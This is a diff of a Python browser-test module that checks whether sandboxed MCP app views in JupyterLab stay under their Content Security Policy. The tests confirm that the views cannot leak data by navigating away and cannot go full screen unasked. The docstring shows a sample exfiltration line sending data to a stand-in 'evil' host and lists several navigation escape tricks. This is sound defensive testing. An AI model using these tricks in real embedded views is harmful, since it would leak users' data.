@@ -1,4 +1,8 @@
-"""An MCP Apps view's Content Security Policy holds whatever its document starts with (real Chromium).
+"""An MCP Apps view stays in its sandbox and under its policy (real JupyterLab, real Chromium).
+
+JupyterLab and Chromium start once for the module; each test opens its own notebook.
+
+Its Content Security Policy holds whatever its document starts with.
 
 tests/security/hostile_app_server.py serves one view per trick (``PREFIXES``): blanks that a
 regex's ``\\s`` takes for blanks and HTML does not (U+00A0, U+001C, U+3000, U+0085), a BOM,
@@ -8,21 +12,36 @@ Chromium, every such fetch is blocked and the origin sees no request. The contro
 declares an origin (a name Chromium maps to 127.0.0.1) and reaches it, so a blocked fetch
 is the policy's doing, not a broken view. (With the ``<meta>`` left out, the iframe's ``csp``
 attribute alone blocks every one of these fetches in Chromium too; measured, not asserted.)
+
+It cannot carry data out by leaving its page (issue 44): ``connect-src 'none'`` stops
+fetches, not navigations, and a view could go to ``location = "https://evil/?" + data``, a
+``<meta http-equiv=refresh>``, a link, the Navigation API or a ``data:`` page that goes on
+(each one reached the origin, measured before the fix). Every such view logs that it ran,
+tries, and is closed by the host for trying; the origin sees none of them, nor a
+``window.open``, a ``target=_blank`` link, a form, the top or parent frame or a nested frame.
+The control view declares its origin as a frame domain, goes there, and arrives.
+
+It cannot go full screen by itself: a view that takes the focus and asks for full screen as
+soon as it is shown (right after the key press that ran the cell) is answered "inline", stays
+in the notebook, and the host offers the person a button instead; pressing it lays the view
+out full screen and tells it so.
 """
 
 from __future__ import annotations
 
 import json
-import sys
 from pathlib import Path
 
 import pytest
+
+import time
 
 from tests.apps.test_apps_browser import (  # noqa: F401 (fixtures)
     ARTIFACTS,
     DECLARABLE,
     Origin,
     browser,
+    into_view,
     lab,
     wait,
 )
@@ -31,46 +50,57 @@ from selenium.webdriver.common.action_chains import ActionChains  # noqa: E402
 from selenium.webdriver.common.by import By  # noqa: E402
 from selenium.webdriver.common.keys import Keys  # noqa: E402
 
-pytestmark = [pytest.mark.node, pytest.mark.timeout(240)]
+pytestmark = [pytest.mark.node, pytest.mark.timeout(300)]
 
 SERVER = Path(__file__).with_name("hostile_app_server.py")
 NAMES = ["nbsp", "x1c", "ideographic", "nel", "bom", "comment", "title", "text", "body", "legacy",
          "own-policy", "declared"]
 
 
-def notebook(path: Path, undeclared: str, declared: str) -> None:
+def open_and_run(browser, lab, name: str, tools: list[str], undeclared: str, declared: str) -> float:  # noqa: F811
+    """Open a new notebook ``name`` that shows the views of ``tools`` and run its cell; the
+    ``time.monotonic()`` of that key press (the test's last input on the host page)."""
+    base, token, folder = lab
     cell = (
         "import sys, mcpclient\nfrom IPython.display import display\n"
         f"views = mcpclient.connect([sys.executable, {str(SERVER)!r}, {undeclared!r}, {declared!r}], apps=True)\n"
-        f"for name in {NAMES!r}:\n    display(views.call_tool('view-' + name))\n"
+        f"for name in {tools!r}:\n    display(views.call_tool('view-' + name))\n"
     )
-    path.write_text(json.dumps({
+    (folder / name).write_text(json.dumps({
         "cells": [{"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": cell}],
         "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}},
         "nbformat": 4, "nbformat_minor": 5,
     }))
+    browser.switch_to.default_content()
+    # A workspace of its own, reset: the notebooks the module's other tests opened are not shown.
+    browser.get(f"{base}/lab/workspaces/{Path(name).stem}/tree/{name}?token={token}&reset")
+    wait(browser, lambda d: any("Idle" in e.text for e in d.find_elements(
+        By.CSS_SELECTOR, ".jp-StatusBar-Widget, .jp-StatusBar-TextItem")), 90, "kernel")
+    editor = wait(browser, lambda d: [e for e in d.find_elements(By.CSS_SELECTOR, ".jp-Cell .cm-content")
+                                      if e.is_displayed()], 30, "notebook")[0]
+    editor.click()
+    ActionChains(browser).key_down(Keys.SHIFT).send_keys(Keys.ENTER).key_up(Keys.SHIFT).perform()
+    return time.monotonic()
+
+
+def view_notes(driver) -> list:
+    """The notes under each shown view, in the page's order (their parent is the view's box)."""
+    return driver.find_elements(By.CSS_SELECTOR, ".jp-OutputArea-output .mcpclient-app-notes")
 
 
 def test_no_view_document_moves_its_policy_out_of_force(lab, browser):  # noqa: F811 (fixtures)
-    base, token, folder = lab
     origin = Origin()
     declared = origin.url.replace("127.0.0.1", DECLARABLE)
-    notebook(folder / "views.ipynb", origin.url, declared)
     ARTIFACTS.mkdir(parents=True, exist_ok=True)
-    browser.get(f"{base}/lab/tree/views.ipynb?token={token}")
+    open_and_run(browser, lab, "views.ipynb", NAMES, origin.url, declared)
     try:
-        wait(browser, lambda d: any("Idle" in e.text for e in d.find_elements(
-            By.CSS_SELECTOR, ".jp-StatusBar-Widget, .jp-StatusBar-TextItem")), 90, "kernel")
-        editor = wait(browser, lambda d: [e for e in d.find_elements(By.CSS_SELECTOR, ".jp-Cell .cm-content")
-                                          if e.is_displayed()], 30, "notebook")[0]
-        editor.click()
-        ActionChains(browser).key_down(Keys.SHIFT).send_keys(Keys.ENTER).key_up(Keys.SHIFT).perform()
         frames = wait(browser, lambda d: f if len(f := d.find_elements(
             By.CSS_SELECTOR, ".jp-OutputArea-output iframe[sandbox]")) == len(NAMES) else None, 120, "every view")
         seen = {}
         for frame in frames:
             assert (frame.get_attribute("csp") or "").startswith("default-src 'none'; ")  # Chromium's second copy
-            browser.switch_to.frame(frame)
+            into_view(browser, frame)
+            assert (browser.execute_script("return window.frameElement") is None)  # another origin than its proxy
             name = wait(browser, lambda d: d.find_element(By.ID, "name").text, 30, "a view")
             seen[name] = wait(browser, lambda d: (t := d.find_element(By.ID, "probe").text) != "pending" and t,
                               30, f"the {name} view's fetch")
@@ -82,4 +112,86 @@ def test_no_view_document_moves_its_policy_out_of_force(lab, browser):  # noqa: 
     except Exception:
         browser.switch_to.default_content()
         browser.save_screenshot(str(ARTIFACTS / "hostile-views-failure.png"))
+        raise
+
+
+#: The views of ``hostile_app_server.LEAVES`` that try to leave their page with data: the host
+#: closes each for trying.
+LEAVING = ["location", "replace", "navigation-api", "meta-refresh", "link", "base-link", "data-page"]
+#: Those whose trick the sandbox or the view's policy stops where it stands: each logs that it survived.
+STAYING = ["window-open", "blank-link", "top", "parent", "frame"]
+#: Refused by the view's ``form-action``; Chromium may report the attempted navigation to the
+#: proxy too, which then closes the view: either is an end.
+EITHER = ["form"]
+#: What the host writes in a view's box when it closed the view for trying to load another page.
+LEFT = "tried to load another page"
+
+
+def test_no_view_leaves_its_page_or_opens_another_to_carry_data_out(lab, browser):  # noqa: F811 (fixtures)
+    origin = Origin()
+    declared = origin.url.replace("127.0.0.1", DECLARABLE)
+    ARTIFACTS.mkdir(parents=True, exist_ok=True)
+    open_and_run(browser, lab, "leaving.ipynb", [*LEAVING, *STAYING, *EITHER, "leave-declared"], origin.url, declared)
+    try:
+        def boxes_by_name(d):
+            found = {}
+            for notes in view_notes(d):
+                ran = [n.text for n in notes.find_elements(By.CSS_SELECTOR, ".mcpclient-app-log") if " ran " in n.text]
+                if ran:
+                    found[ran[0].rsplit(" ", 1)[-1]] = notes.find_element(By.XPATH, "..")
+            return found if set(found) >= {*LEAVING, *STAYING, *EITHER} else None
+
+        boxes = wait(browser, boxes_by_name, 120, "every view ran its trick")
+        wait(browser, lambda d: "/leave-declared" in origin.hits, 60, "the control arriving at its declared origin")
+        assert [hit for hit in origin.hits if hit != "/leave-declared"] == []
+        for name in LEAVING:
+            wait(browser, lambda d, box=boxes[name]: LEFT in box.text, 60, f"the {name} view closed for leaving")
+        for name in STAYING:
+            wait(browser, lambda d, box=boxes[name], name=name: f"survived {name}" in box.text, 60,
+                 f"the {name} view still there")
+        for name in EITHER:
+            wait(browser, lambda d, box=boxes[name], name=name: LEFT in box.text or f"survived {name}" in box.text,
+                 60, f"the {name} view's end")
+        browser.save_screenshot(str(ARTIFACTS / "leaving-views.png"))
+        assert [hit for hit in origin.hits if hit != "/leave-declared"] == [], origin.hits
+    except Exception:
+        browser.switch_to.default_content()
+        browser.save_screenshot(str(ARTIFACTS / "leaving-views-failure.png"))
+        raise
+
+
+def test_a_view_does_not_go_full_screen_without_the_persons_gesture(lab, browser):  # noqa: F811 (fixtures)
+    origin = Origin()
+    ARTIFACTS.mkdir(parents=True, exist_ok=True)
+    open_and_run(browser, lab, "fullscreen.ipynb", ["fullscreen-at-load"], origin.url, origin.url)
+    try:
+        frame = wait(browser, lambda d: d.find_elements(By.CSS_SELECTOR, ".jp-OutputArea-output iframe[sandbox]"),
+                     120, "the view")[0]
+        into_view(browser, frame)
+        assert wait(browser, lambda d: (t := d.find_element(By.ID, "mode").text) != "pending" and t, 60,
+                    "the answer") == "inline"
+        browser.switch_to.default_content()
+        width, page_width = browser.execute_script(
+            "return [arguments[0].getBoundingClientRect().width, window.innerWidth];", frame)
+        assert width < page_width  # still in the notebook
+        assert not [b for b in browser.find_elements(By.CSS_SELECTOR, ".mcpclient-app-back") if b.is_displayed()]
+        asked = wait(browser, lambda d: d.find_elements(By.CSS_SELECTOR, ".mcpclient-app-ask-display"), 30,
+                     "the host's button")[0]
+        assert asked.text.startswith("The view asks to go full screen")
+        browser.save_screenshot(str(ARTIFACTS / "fullscreen-asked.png"))
+        asked.find_element(By.TAG_NAME, "button").click()  # the person's own gesture, on the host's side
+        into_view(browser, frame)
+        wait(browser, lambda d: any(change.get("displayMode") == "fullscreen"
+                                    for change in json.loads(d.find_element(By.ID, "context").text)),
+             30, "the view told it is full screen")
+        browser.switch_to.default_content()
+        left, width, page_width = browser.execute_script(
+            "const r = arguments[0].getBoundingClientRect(); return [r.left, r.width, window.innerWidth];", frame)
+        assert (left, round(width)) == (0, page_width)
+        back = [b for b in browser.find_elements(By.CSS_SELECTOR, ".mcpclient-app-back") if b.is_displayed()]
+        assert [b.text for b in back] == ["Exit full screen"]
+        back[0].click()
+    except Exception:
+        browser.switch_to.default_content()
+        browser.save_screenshot(str(ARTIFACTS / "fullscreen-failure.png"))
         raise
